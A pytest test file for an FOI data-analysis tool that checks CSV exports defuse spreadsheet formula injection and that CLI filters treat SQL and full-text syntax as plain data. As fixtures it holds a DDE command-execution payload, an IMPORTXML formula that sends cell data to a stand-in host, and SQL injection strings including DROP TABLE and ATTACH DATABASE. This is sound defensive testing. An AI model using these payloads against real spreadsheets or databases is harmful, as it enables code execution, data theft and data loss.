"""Hostile text from published pages stays inert in everything the tool writes: CSV cells a
spreadsheet would run as formulas are neutralised (OWASP: a leading single quote) in every
CSV, while Parquet and the store keep the raw value; report links are http(s) only."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import create_engine, text
from typer.testing import CliRunner

from analysis import csvsafe
from analysis.export import export, read_export
from foi import app
from tests.analysis.store_fixture import FIXTURE_LABELS, build_store, load_labels

HYPERLINK = '=HYPERLINK("http://example.org","x")'
# Each begins with a character a spreadsheet takes as the start of a formula.
HOSTILE = {"title": HYPERLINK, "reference": "+44 20 7946 0000", "authority": "@SUM(A1:A9)",
           "request_text": "-2+3+cmd|' /C calc'!A0", "response_text": "\t=1+1"}
CAPTION = "\r=IMPORTXML(CONCAT(\"http://example.org/?\",A1),\"//a\")"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> str:
    """The fixture store plus one response whose text fields are all formulas, with a
    table whose caption and labels are formulas too."""
    labels = load_labels(FIXTURE_LABELS)
    bad = dict(labels[0], url_path="/fixture.example/cleveland/hostile/", **HOSTILE)
    bad["tables"] = [{"caption": CAPTION, "header": ["Year", "=2+5"], "rows": [["@2024", "-4"], ["+x", "7"]],
                      "source": "html"}]
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'foi.db'}"
    build_store(url, labels + [bad]).dispose()
    return url


def _formulas(cells) -> list[str]:
    """Cells a spreadsheet would take as formulas: those starting with a trigger character,
    except plain numbers (a numeric column's -4.0 is read as the number it is)."""
    out = []
    for value in cells:
        if value.startswith(csvsafe.TRIGGERS):
            try:
                float(value)
            except ValueError:
                out.append(value)
    return out


def _csv_rows(path_or_text) -> list[dict]:
    handle = io.StringIO(path_or_text) if isinstance(path_or_text, str) else open(path_or_text, encoding="utf-8", newline="")
    with handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("raw, written", [
    (HYPERLINK, "'" + HYPERLINK), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=x", "''=x"), ("''@x", "'''@x"), ("'abc", "'abc"), ("a=b", "a=b"),
    ("", ""), ("Section 31", "Section 31"),
])
def test_cells_are_neutralised_and_restored_exactly(raw, written):
    assert csvsafe.cell(raw) == written
    assert csvsafe.restore(written) == raw


def test_export_csv_opens_as_text_and_parquet_keeps_the_raw_value(hostile_db, tmp_path):
    csv_path, dictionary = export(hostile_db, "disclosures", "csv", tmp_path)
    parquet_path, _ = export(hostile_db, "disclosures", "parquet", tmp_path)
    (row,) = [r for r in _csv_rows(csv_path) if r["response_url"].endswith("/hostile/")]
    assert row["title"] == "'" + HYPERLINK  # what a spreadsheet opens: text starting with a quote
    for field, raw in HOSTILE.items():
        assert row[field] == "'" + raw, field
    every = [v for r in _csv_rows(csv_path) for v in r.values()] + \
        [v for r in _csv_rows(dictionary) for v in r.values()]
    assert not _formulas(every)
    raw = pd.read_parquet(parquet_path)
    assert raw.loc[raw["response_url"].str.endswith("/hostile/"), "title"].tolist() == [HYPERLINK]
    back = read_export(csv_path)
    assert back.loc[back["response_url"].str.endswith("/hostile/"), list(HOSTILE)].iloc[0].to_dict() == HOSTILE
    engine = create_engine(hostile_db)
    with engine.connect() as conn:
        assert conn.execute(text("SELECT title FROM disclosures WHERE response_url LIKE '%/hostile/'")).scalar() \
            == HYPERLINK
    engine.dispose()


def test_every_csv_the_commands_write_is_neutralised(hostile_db, tmp_path):
    runner = CliRunner()
    outputs = {}
    for args in (["stats", "figures", "--csv"], ["stats", "usage", "--csv"], ["stats", "outcomes", "--csv"],
                 ["stats", "compare", "--csv"], ["stats", "cooccurrence", "--csv"], ["stats", "families", "--csv"]):
        result = runner.invoke(app, args + ["--db", hostile_db])
        assert result.exit_code == 0, (args, result.output)
        outputs[" ".join(args)] = result.stdout
    figures = [r for r in _csv_rows(outputs["stats figures --csv"]) if r["response_url"].endswith("/hostile/")]
    assert {r["caption"] for r in figures} == {"'" + CAPTION}
    assert sorted({r["row_label"] for r in figures}) == ["'+x", "'@2024"]
    assert {r["column_label"] for r in figures} == {"'=2+5"}
    assert {r["title"] for r in figures} == {"'" + HYPERLINK}
    for name, out in outputs.items():
        cells = [v for r in _csv_rows(out) for v in r.values() if v]
        assert not _formulas(cells), name
    result = runner.invoke(app, ["export", "--what", "tables", "--format", "csv", "--out", str(tmp_path),
                                 "--db", hostile_db])
    assert result.exit_code == 0, result.output
    cells = [v for r in _csv_rows(tmp_path / "tables.csv") for v in r.values() if v]
    assert "'" + CAPTION in cells and not _formulas(cells)


FILTERS = ["' OR '1'='1", "x'; DROP TABLE disclosures; --", '" OR ""="', "%", "_", "\\", "cleveland%",
           "NEAR(police dogs)", "title:police OR 1", "*", "'; ATTACH DATABASE '/tmp/x.db' AS x; --"]


@pytest.mark.parametrize("value", FILTERS)
def test_filters_take_sql_and_fts_syntax_as_data(hostile_db, value):
    runner = CliRunner()
    engine = create_engine(hostile_db)
    with engine.connect() as conn:
        before = conn.execute(text("SELECT COUNT(*) FROM disclosures")).scalar()
    found = runner.invoke(app, ["stats", "figures", "--csv", "--search", value, "--db", hostile_db])
    assert found.exit_code == 0, found.output
    assert _csv_rows(found.stdout) == []  # no title or caption holds these characters
    for args in (["stats", "figures", "--csv"], ["stats", "usage", "--csv"], ["stats", "outcomes", "--csv"]):
        result = runner.invoke(app, args + ["--authority", value, "--db", hostile_db])
        assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exception)
        assert "Traceback" not in result.output
        if result.exit_code == 0:
            rows = _csv_rows(result.stdout)
            assert all(r.get("authority_id") in (None, "", value) for r in rows), (args, rows[:2])
            assert "cleveland" not in {r.get("authority_id") for r in rows}
        else:
            assert result.exit_code == 1 and value in result.output
    with engine.connect() as conn:
        assert conn.execute(text("SELECT COUNT(*) FROM disclosures")).scalar() == before
    engine.dispose()


def test_a_search_with_brackets_and_quotes_finds_the_literal_text(hostile_db):
    found = CliRunner().invoke(app, ["stats", "figures", "--csv", "--search", 'hyperlink("http', "--db", hostile_db])
    assert found.exit_code == 0, found.output
    rows = _csv_rows(found.stdout)
    assert len(rows) == 2 and {r["title"] for r in rows} == {"'" + HYPERLINK}
